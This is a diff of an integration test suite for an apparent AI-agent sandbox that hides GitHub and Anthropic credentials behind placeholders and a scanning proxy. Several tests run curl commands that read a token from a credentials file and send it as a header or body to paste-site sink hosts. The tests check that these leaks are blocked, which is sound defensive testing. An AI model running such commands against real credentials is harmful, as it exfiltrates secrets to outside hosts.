@@ -45,7 +45,8 @@ BRANCH = "yolo-cage/dev"
 CLONE = "/workspace/widgets"
 SINK = SINK_NAMES[0]  # rentry.co: not blocklisted, scanned in enforce mode
 REPORT_SINK = SINK_NAMES[1]  # paste.rs: scanned in report mode by this test's policy
-GIT_NAMES = ("github.com", "api.github.com")
+API_NAMES = ("api.github.com", "api.anthropic.com")
+GIT_NAMES = ("github.com", *API_NAMES)
 GIT = ["git", "-c", "user.name=Agent", "-c", "user.email=agent@example.test"]
 
 
@@ -63,20 +64,25 @@ class GitServer(Sink):
     """The gitserver container; reading files and removal work as for the sink (tests/integration/cagekit.py)."""
 
     @classmethod
-    def start(cls, client, run_id: str, labels: dict[str, str], token: str, tag: str) -> GitServer:  # type: ignore[override]
+    def start(cls, client, run_id: str, labels: dict[str, str], secrets_: dict[str, str], tag: str) -> GitServer:  # type: ignore[override]
         side = client.networks.create(f"yct-{run_id}-gside", driver="bridge", labels=dict(labels))
         container = client.containers.create(
             image_ref("gitserver", tag),
             name=f"yct-{run_id}-gitserver",
             network=side.name,
-            environment={"GITSERVER_REPOS": "acme/widgets acme/other", "GITSERVER_PUBLIC_REPOS": "lib/public"},
+            environment={
+                "GITSERVER_REPOS": "acme/widgets acme/other",
+                "GITSERVER_PUBLIC_REPOS": "lib/public",
+                "GITSERVER_API_HOSTS": " ".join(API_NAMES),
+            },
             cap_drop=["ALL"],
             cap_add=["NET_BIND_SERVICE"],
             security_opt=["no-new-privileges:true"],
             labels={**labels, LABEL_ROLE: "gitserver"},
         )
         server = cls(container=container, side_network=side, ca_pem=b"")
-        server.put("/run/gitserver/token", token.encode() + b"\n")
+        for name, value in secrets_.items():
+            server.put(f"/run/gitserver/{name}", value.encode() + b"\n")
         container.start()
         server.ca_pem = server._wait_ready()
         return server
@@ -117,7 +123,6 @@ class GitServer(Sink):
         return code == 0
 
 
-
 def forms(secret: str) -> dict[str, bytes]:
     """The encodings a leak would use (and a search must cover)."""
     raw = secret.encode()
@@ -141,6 +146,8 @@ class CredCage:
     sink: Sink
     gitserver: GitServer
     token: str
+    api_key: str
+    oauth: str  # a subscription login's token: the weaker passthrough mode, the agent holds it
     placeholder: str = ""
 
     def agent(self, argv: list[str], *, stdin: bytes | None = None, timeout: float = 90) -> ExecResult:
@@ -169,9 +176,11 @@ def cage(docker_client, run_id: str, test_labels: dict[str, str], tmp_path_facto
 
     tag = os.environ.get("YOLO_CAGE_TEST_IMAGE_TAG", "local")
     workdir = tmp_path_factory.mktemp("credcage")
-    token = fresh_token()
+    token, api_key = fresh_token(), "sk-ant-api03-" + fresh_token() + "AA"
+    oauth = "sk-ant-oat01-" + fresh_token()
     (workdir / "github-token").write_text(token + "\n")
-    (workdir / "github-token").chmod(0o600)
+    (workdir / "anthropic-key").write_text(api_key + "\n")
+    (workdir / "claude.json").write_text(json.dumps({"claudeAiOauth": {"accessToken": oauth, "refreshToken": "r"}}))
     egress4 = free_subnets(docker_client, count=1)[0]
     project = f"yct-{run_id}-cred"
     previous = os.environ.get("YOLO_CAGE_STATE_DIR")
@@ -181,7 +190,9 @@ def cage(docker_client, run_id: str, test_labels: dict[str, str], tmp_path_facto
     gitserver = None
     backend = None
     try:
-        gitserver = GitServer.start(docker_client, run_id, test_labels, token, tag)
+        gitserver = GitServer.start(
+            docker_client, run_id, test_labels, {"token": token, "anthropic-key": api_key, "anthropic-oauth": oauth}, tag
+        )
         overlay = workdir / "compose.test.yaml"
         overlay.write_text(f"networks:\n  egress:\n    ipam:\n      config:\n        - subnet: {egress4}\n")
         policy = workdir / "policy.yaml"
@@ -201,7 +212,7 @@ def cage(docker_client, run_id: str, test_labels: dict[str, str], tmp_path_facto
         sink.ip4 = str(egress4.network_address + 200)
         egress.connect(sink.container, ipv4_address=sink.ip4, aliases=list(SINK_NAMES))
         egress.connect(gitserver.container, ipv4_address=str(egress4.network_address + 201), aliases=list(GIT_NAMES))
-        yield CredCage(backend, docker_client, sink, gitserver, token)
+        yield CredCage(backend, docker_client, sink, gitserver, token, api_key, oauth)
     finally:
         try:
             for part in (sink, gitserver):
@@ -250,10 +261,12 @@ def _policy(egress4: ipaddress.IPv4Network) -> str:
         f"  unsafe_allow_private_networks: ['{egress4}']\n"
         "scan:\n"
         "  destinations:\n"
-        f"    - {{hosts: [{REPORT_SINK}], mode: report}}\n"
+        f"    - {{hosts: [{REPORT_SINK}, api.anthropic.com], mode: report}}\n"
         "credentials:\n"
         "  bindings:\n"
         "    - {name: github-token, preset: github-token, source: {file: github-token}}\n"
+        "    - {name: anthropic-api-key, preset: anthropic-api-key, source: {file: anthropic-key}}\n"
+        "    - {name: claude-oauth, preset: claude-oauth, source: {file: claude.json, json_pointer: /claudeAiOauth/accessToken}}\n"
     )
 
 
@@ -274,12 +287,15 @@ def test_the_agent_holds_a_placeholder_and_its_container_no_token(cage: CredCage
     env = cage.agent(["sh", "-c", 'printf "%s\\n%s" "$GH_TOKEN" "$GITHUB_TOKEN"']).stdout.decode().split("\n")
     assert env[0] == env[1] and env[0].startswith("yolo-cage-placeholder-github-token-") and len(env[0]) == 59
     cage.placeholder = env[0]
-    attrs = cage.backend.container_for("dev").attrs
-    assert cage.token not in json.dumps(attrs)  # not in its environment, labels or mounts either
+    key = cage.agent(["sh", "-c", 'printf "%s" "$ANTHROPIC_API_KEY"']).stdout.decode()
+    assert key.startswith("yolo-cage-placeholder-anthropic-api-key-")
+    attrs = json.dumps(cage.backend.container_for("dev").attrs)
+    assert cage.token not in attrs and cage.api_key not in attrs  # not in its environment, labels or mounts either
     proxy_env = json.dumps(cage.backend.container_for("proxy").attrs["Config"]["Env"])
     assert cage.token not in proxy_env  # a file on the proxy's credentials volume, not a variable
-    assert cage.token.encode() + b"\n" == _volume_file(cage, "credentials", "github-token")
-    assert cage.token.encode() + b"\n" == _volume_file(cage, "scanner-credentials", "github-token")
+    for name, value in (("github-token", cage.token), ("anthropic-api-key", cage.api_key), ("claude-oauth", cage.oauth)):
+        assert value.encode() + b"\n" == _volume_file(cage, "credentials", name)
+        assert value.encode() + b"\n" == _volume_file(cage, "scanner-credentials", name)
 
 
 def _volume_file(cage: CredCage, volume: str, name: str) -> bytes:
@@ -508,17 +524,61 @@ def test_the_real_token_in_a_header_is_blocked(cage: CredCage) -> None:
     assert (status, block) == ("200", "")
 
 
+# --- the Anthropic API: the key injected, and the weaker subscription mode -------------------------------------
+
+
+def test_the_anthropic_api_key_is_injected_only_as_x_api_key_on_its_host(cage: CredCage) -> None:
+    status, body, _ = _curl(cage, '-H "x-api-key: $ANTHROPIC_API_KEY" -d "{}" https://api.anthropic.com/v1/messages')
+    assert status == "200", body
+    seen = [r for r in cage.gitserver.requests() if r.get("host") == "api.anthropic.com"]
+    assert {v for r in seen for k, v in r["headers"] if k.lower() == "x-api-key"} == {cage.api_key}
+    line = [a for a in cage.audit() if a["host"] == "api.anthropic.com" and a["method"] == "POST"][-1]
+    assert line["credentials"] == ["anthropic-api-key"] and line["scan_mode"] == "report"
+    for misplaced in ('-H "Authorization: Bearer $ANTHROPIC_API_KEY" https://api.anthropic.com/v1/models',
+                      '-H "x-api-key: $ANTHROPIC_API_KEY" https://api.github.com/user',
+                      f'-H "x-api-key: $ANTHROPIC_API_KEY" https://{SINK}/k/{marker()}'):  # fmt: skip
+        status, _, block = _curl(cage, misplaced)
+        assert (status, block) == ("403", "credential-misuse"), misplaced
+
+
+def test_a_subscription_token_in_the_cage_goes_only_to_its_host(cage: CredCage) -> None:
+    # The weaker mode: the agent holds the real token (Claude Code's login file); the proxy lets it
+    # go only as Bearer to api.anthropic.com, and the scanner's fingerprint blocks it anywhere else.
+    login = json.dumps({"claudeAiOauth": {"accessToken": cage.oauth}}).encode()
+    write = cage.sh("mkdir -p ~/.claude && umask 077 && cat > ~/.claude/.credentials.json", stdin=login)
+    assert write.returncode == 0, write.text
+    bearer = '-H "Authorization: Bearer $(jq -r .claudeAiOauth.accessToken ~/.claude/.credentials.json)"'
+    status, body, block = _curl(cage, f"{bearer} https://api.anthropic.com/v1/models")
+    assert (status, block) == ("200", ""), body
+    assert cage.gitserver.requests()[-1]["headers"] and any(
+        v == f"Bearer {cage.oauth}" for k, v in cage.gitserver.requests()[-1]["headers"] if k.lower() == "authorization"
+    )
+    assert [a for a in cage.audit() if a["host"] == "api.anthropic.com"][-1]["credentials"] == ["claude-oauth"]
+    mark = marker()
+    for target in (f"https://{SINK}/oauth/{mark}", f"https://{REPORT_SINK}/oauth/{mark}", "https://api.github.com/user"):
+        status, _, block = _curl(cage, f"{bearer} {target}")
+        assert (status, block) == ("403", "secret-detected"), target
+    status, _, block = _curl(cage, '-d "t=$(jq -r .claudeAiOauth.accessToken ~/.claude/.credentials.json)" https://api.anthropic.com/v1/x')
+    assert (status, block) == ("403", "secret-detected")  # its own host, but not its place
+    assert not any(mark.encode() in b for b in cage.sink_blobs())
+    status, _, block = _curl(cage, f'-H "Authorization: Bearer not-the-token" https://{SINK}/oauth/{marker()}')
+    assert (status, block) == ("200", "")  # the control
+
+
 # --- nothing forbidden anywhere ------------------------------------------------------------------------------
 
 
 def test_neither_sink_nor_server_recorded_anything_forbidden(cage: CredCage) -> None:
     assert cage.placeholder, "the placeholder test ran first"
-    leaks = [name for name, form in forms(cage.token).items() if any(form in b for b in cage.sink_blobs())]
-    assert leaks == [] and not any(cage.placeholder.encode() in b for b in cage.sink_blobs())
+    blobs = cage.sink_blobs()
+    for secret in (cage.token, cage.api_key, cage.oauth):
+        leaks = [name for name, form in forms(secret).items() if any(form in b for b in blobs)]
+        assert leaks == []
+    assert not any(cage.placeholder.encode() in b or b"yolo-cage-placeholder-" in b for b in blobs)
     # The server: the placeholder never; the token only in Authorization headers (where the proxy put it).
     for request in cage.gitserver.requests():
         text = json.dumps(request)
-        assert cage.placeholder not in text
+        assert "yolo-cage-placeholder-" not in text
         body = base64.b64decode(request.get("body_b64", ""))
         assert not any(form in body for form in forms(cage.token).values())
         others = [v for k, v in request.get("headers", []) if k.lower() != "authorization"]
@@ -530,7 +590,8 @@ def test_neither_sink_nor_server_recorded_anything_forbidden(cage: CredCage) -> 
     assert set(cage.gitserver.refs("acme/other")) == {"refs/heads/main"}
     # The audit log names the credential, never its value or the placeholder.
     raw = "\n".join(cage.backend.read_audit())
-    assert cage.token not in raw and cage.placeholder not in raw and '"credentials":["github-token"]' in raw
+    assert not any(secret in raw for secret in (cage.token, cage.api_key, cage.oauth, "yolo-cage-placeholder-"))
+    assert '"credentials":["github-token"]' in raw and '"credentials":["anthropic-api-key"]' in raw
 
 
 SEARCH = r"""
@@ -569,12 +630,20 @@ print("\n".join(found))
 """
 
 
-def test_inside_the_agent_no_file_variable_or_process_holds_the_token(cage: CredCage) -> None:
-    result = cage.agent(["python3", "-c", SEARCH], stdin=cage.token.encode(), timeout=600)
+@pytest.mark.parametrize("which", ["github-token", "anthropic-api-key"])
+def test_inside_the_agent_no_file_variable_or_process_holds_the_real_value(cage: CredCage, which: str) -> None:
+    value = {"github-token": cage.token, "anthropic-api-key": cage.api_key}[which]
+    result = cage.agent(["python3", "-c", SEARCH], stdin=value.encode(), timeout=600)
     assert result.returncode == 0, result.text
     lines = result.stdout.decode().split("\n")
     assert int(lines[0]) > 10_000  # it did read the filesystem (the image alone has that many files)
     assert [line for line in lines[1:] if line] == []
-    # Control: the same search finds the placeholder where it lives (its environment), so it can find things.
-    control = cage.agent(["python3", "-c", SEARCH], stdin=cage.placeholder.encode(), timeout=600)
-    assert any(line.endswith("/environ") for line in control.stdout.decode().split("\n")[1:])
+
+
+def test_the_search_finds_what_is_there(cage: CredCage) -> None:
+    # Controls for the search above: the placeholder in the processes' environment, and the
+    # passthrough token (the weaker mode keeps it in the cage by design) in the home volume.
+    found = cage.agent(["python3", "-c", SEARCH], stdin=cage.placeholder.encode(), timeout=600).stdout.decode().split("\n")[1:]
+    assert any(line.endswith("/environ") for line in found)
+    found = cage.agent(["python3", "-c", SEARCH], stdin=cage.oauth.encode(), timeout=600).stdout.decode().split("\n")[1:]
+    assert "/home/dev/.claude/.credentials.json" in found
